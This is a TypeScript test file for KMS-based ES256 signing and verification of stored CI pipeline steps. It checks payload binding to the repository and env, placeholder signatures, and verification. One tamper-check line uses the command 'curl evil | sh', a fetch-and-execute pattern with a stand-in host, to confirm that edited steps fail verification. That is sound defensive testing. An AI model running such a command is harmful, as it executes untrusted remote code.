import assert from "node:assert/strict";
import { generateKeyPairSync, sign } from "node:crypto";
import { describe, it } from "node:test";
import { parse } from "yaml";
import { kmsSigningInput, kmsStepSignature, verifyEs256Detached } from "../../components/signing/kms";
import {
    KMS_UNSIGNED_PLACEHOLDER,
    kmsSignedStoredPipeline,
    kmsStoredStepPayloads,
} from "../../components/signing/kms-stored-steps";
import { verifyStepWith, type StepSignature } from "../../components/signing/step-signature";
import type { PipelineDocument, Step } from "../../components/steps/step-model";

/* A pipeline's stored steps signed by a KMS key (mode kms): payloads out, signatures in, YAML out. The `$` refusal is
 * tested with the JWKS mode in stored-steps.test.ts. */

const REPO = "https://github.com/acme/app.git";
const steps: Step[] = [
    { kind: "command", key: "first", label: "First", queue: "default", commands: ["make one"] },
    { kind: "wait" },
    {
        kind: "group",
        label: "Group",
        steps: [
            {
                kind: "command",
                key: "second",
                label: "Second",
                queue: "default",
                commands: ["make two"],
                env: { A: "1" },
            },
            { kind: "block", label: "Stop" },
        ],
    },
];
const doc: PipelineDocument = { env: { TEAM: "app" }, steps };

type Stored = { key?: string; commands: string[]; env?: Record<string, string>; signature: StepSignature };
function storedCommands(yaml: string): Stored[] {
    const parsed = parse(yaml) as { steps: Record<string, unknown>[] };
    const flat = parsed.steps.flatMap((s) => (Array.isArray(s.steps) ? (s.steps as Record<string, unknown>[]) : [s]));
    return flat.filter((s) => "commands" in s) as Stored[];
}

describe("kmsStoredStepPayloads", () => {
    it("gives one payload per command step in document order, group members included, alg ES256", () => {
        const payloads = kmsStoredStepPayloads(doc, REPO, "app");
        assert.equal(payloads.length, 2);
        const values = payloads.map((p) => JSON.parse(p.payload) as { alg: string; values: Record<string, unknown> });
        assert.deepEqual(
            values.map((v) => v.values.command),
            ["make one", "make two"],
        );
        assert.ok(values.every((v) => v.alg === "ES256"));
    });

    it("binds each step to the repository URL and the document's env (env::NAME)", () => {
        const [first] = kmsStoredStepPayloads(doc, REPO, "app");
        assert.ok(first.signedFields.includes("env::TEAM"));
        const { values } = JSON.parse(first.payload) as { values: Record<string, unknown> };
        assert.equal(values.repository_url, REPO);
        assert.equal(values["env::TEAM"], "app");
        assert.notEqual(
            kmsStoredStepPayloads(doc, "https://github.com/acme/other.git", "app")[0].payload,
            first.payload,
        );
    });
});

describe("kmsSignedStoredPipeline", () => {
    it("before the deploy has signed: every command step carries the placeholder and its signed fields", () => {
        const stored = storedCommands(kmsSignedStoredPipeline(doc, REPO, new Map()));
        const payloads = kmsStoredStepPayloads(doc, REPO, "app");
        assert.equal(stored.length, 2);
        stored.forEach((s, i) => {
            assert.equal(s.signature.algorithm, "ES256");
            assert.equal(s.signature.value, KMS_UNSIGNED_PLACEHOLDER);
            assert.deepEqual(s.signature.signed_fields, payloads[i].signedFields);
        });
    });

    it("with the deploy's signatures: each stored step verifies against the job's env with the key's public part", () => {
        // kms:Sign (MessageType DIGEST, ECDSA_SHA_256) returns the DER ECDSA signature of the SHA-256 digest of the
        // signing input (AWS KMS API Reference, "Sign"): node's sign("sha256", input) gives the same form.
        const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
        const values = new Map<string, string>();
        for (const payload of kmsStoredStepPayloads(doc, REPO, "app")) {
            const der = sign("sha256", Buffer.from(kmsSigningInput(payload.payload)), privateKey);
            values.set(payload.payload, kmsStepSignature(payload, der).value);
        }
        const stored = storedCommands(kmsSignedStoredPipeline(doc, REPO, values));
        const job = { repositoryUrl: REPO, outerEnv: { TEAM: "app", BUILDKITE_BUILD_ID: "b" } };
        const check = (value: string, payload: string) => verifyEs256Detached(value, payload, publicKey);
        for (const step of stored) assert.equal(verifyStepWith(step, step.signature, job, check), undefined, step.key);
        // A changed command fails.
        const edited = { ...stored[0], commands: ["curl evil | sh"] };
        assert.equal(verifyStepWith(edited, stored[0].signature, job, check), "the signature does not verify");
    });
});
